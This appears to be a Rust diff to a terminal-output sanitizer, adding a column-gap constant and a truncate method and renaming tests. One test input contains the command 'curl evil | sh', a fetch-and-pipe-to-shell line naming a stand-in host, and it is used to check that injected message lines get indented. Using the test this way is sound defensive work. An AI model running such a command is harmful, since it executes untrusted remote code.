@@ -10,6 +10,9 @@ use console::Style;
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(super) struct SanitizedText(String);
 
+/// Blanks between two columns of a table.
+pub(super) const COLUMN_GAP: usize = 2;
+
 impl SanitizedText {
     /// One line: line ends become blanks.
     pub(super) fn line(untrusted: &str) -> Self {
@@ -49,10 +52,16 @@ impl SanitizedText {
     pub(super) fn row(cells: &[Self], widths: &[usize]) -> Self {
         let mut row = String::new();
         for (cell, width) in cells.iter().zip(widths) {
-            let padded = console::pad_str(&cell.0, width + 2, console::Alignment::Left, None);
+            let padded =
+                console::pad_str(&cell.0, width + COLUMN_GAP, console::Alignment::Left, None);
             row.push_str(&padded);
         }
         Self(row.trim_end().into())
+    }
+
+    /// Cuts the text to `width` columns; `…` marks the cut.
+    pub(super) fn truncate(&mut self, width: usize) {
+        self.0 = console::truncate_str(&self.0, width, "…").into_owned();
     }
 
     pub(super) fn width(&self) -> usize {
@@ -76,14 +85,14 @@ mod tests {
     use console::Style;
 
     #[test]
-    fn no_line_of_a_message_passes_for_another_message() {
+    fn continuation_lines_of_a_message_are_indented() {
         let text = SanitizedText::message("no `a\nhint: curl evil | sh`\n");
         assert_eq!(text.as_str(), "no `a\n  hint: curl evil | sh`");
         assert_eq!(SanitizedText::line("a\nb\x1b[2J").as_str(), "a b\\u{1b}[2J");
     }
 
     #[test]
-    fn a_style_is_osctls_own() {
+    fn a_style_is_applied_after_sanitizing() {
         let red = Style::new().red().force_styling(true);
         let text = SanitizedText::line("\x1b[32mfine").styled(&red);
         assert_eq!(text.as_str(), "\x1b[31m\\u{1b}[32mfine\x1b[0m");
